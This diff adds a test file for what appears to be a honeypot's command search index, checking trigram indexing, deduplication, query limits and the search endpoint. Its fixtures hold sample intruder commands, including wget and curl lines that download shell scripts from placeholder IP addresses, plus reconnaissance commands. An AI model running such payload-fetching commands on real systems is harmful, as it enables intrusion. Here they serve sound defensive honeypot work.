@@ -0,0 +1,85 @@
+"""Tests of index creation and retention TTLs."""
+# Copyright (C) 2016 Russell Troxel
+
+# This program is free software: you can redistribute it and/or modify
+# it under the terms of the GNU General Public License as published by
+# the Free Software Foundation, either version 3 of the License, or
+# (at your option) any later version.
+
+# This program is distributed in the hope that it will be useful,
+# but WITHOUT ANY WARRANTY; without even the implied warranty of
+# MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+# GNU General Public License for more details.
+
+# You should have received a copy of the GNU General Public License
+# along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+from datetime import datetime
+
+import pytest
+
+from donthackme_api.models import CommandText, SearchPosting, SearchTerm
+from donthackme_api.search import index
+
+SESSION = {
+    "session": "a1b2c3d4",
+    "sensor_name": "sensor-1",
+    "sensor_ip": "10.0.0.1"
+}
+
+
+def test_terms_are_trigrams_and_tokens():
+    assert index.terms("ls -la") == set([
+        "g:ls ", "g:s -", "g: -l", "g:-la", "t:ls", "t:-la"])
+    assert index.query_terms("wget") == set(["g:wge", "g:get"])
+    assert index.query_terms("ls") == set(["t:ls"])
+
+
+def test_repeated_commands_add_postings_once(db):
+    when = datetime(2016, 7, 1)
+    assert index.index_command("uname -a", when)
+    postings = SearchPosting.objects.count()
+    assert not index.index_command("uname -a", when)
+    assert SearchPosting.objects.count() == postings
+    assert CommandText.objects.get().count == 2
+    assert SearchTerm.objects.get(id="t:uname").postings == 1
+
+
+def test_search_intersects_posting_lists(db):
+    for day, text in enumerate(["wget http://198.51.100.7/x.sh",
+                                "curl http://198.51.100.7/y.sh",
+                                "wget http://203.0.113.9/x.sh"], 1):
+        index.index_command(text, datetime(2016, 7, day))
+    found = [text.text for text in index.search("wget http://198")]
+    assert found == ["wget http://198.51.100.7/x.sh"]
+    # Most recently seen first.
+    assert [text.text for text in index.search("x.sh")] == [
+        "wget http://203.0.113.9/x.sh", "wget http://198.51.100.7/x.sh"]
+    # Every trigram is indexed, but not in this order.
+    assert index.search("sh.x") == []
+    assert index.search("nothing like it") == []
+
+
+def test_broad_queries_are_refused(db):
+    for number in range(3):
+        index.index_command("echo {0}".format(number), datetime(2016, 7, 1))
+    with pytest.raises(index.QueryTooBroad):
+        index.search("echo", max_candidates=2)
+
+
+def test_search_endpoint_returns_commands_and_sessions(app, api,
+                                                       monkeypatch):
+    api("POST", "/events/session/connect", dict(
+        SESSION, source_ip="203.0.113.5",
+        start_time="2016-07-01T00:00:00.000000Z"))
+    api("PUT", "/events/command/success", dict(
+        SESSION, command="cat /proc/cpuinfo", success=True,
+        timestamp="2016-07-01T00:00:05.000000Z"))
+    status, body = api("GET", "/search/commands?q=CPUINFO")
+    assert status == 200
+    assert [match["command"] for match in body["matches"]] == \
+        ["cat /proc/cpuinfo"]
+    assert len(body["commands"]) == 1
+    assert api("GET", "/search/commands?q=")[0] == 400
+    monkeypatch.setitem(app.config, "SEARCH_MAX_CANDIDATES", 0)
+    assert api("GET", "/search/commands?q=cat")[0] == 422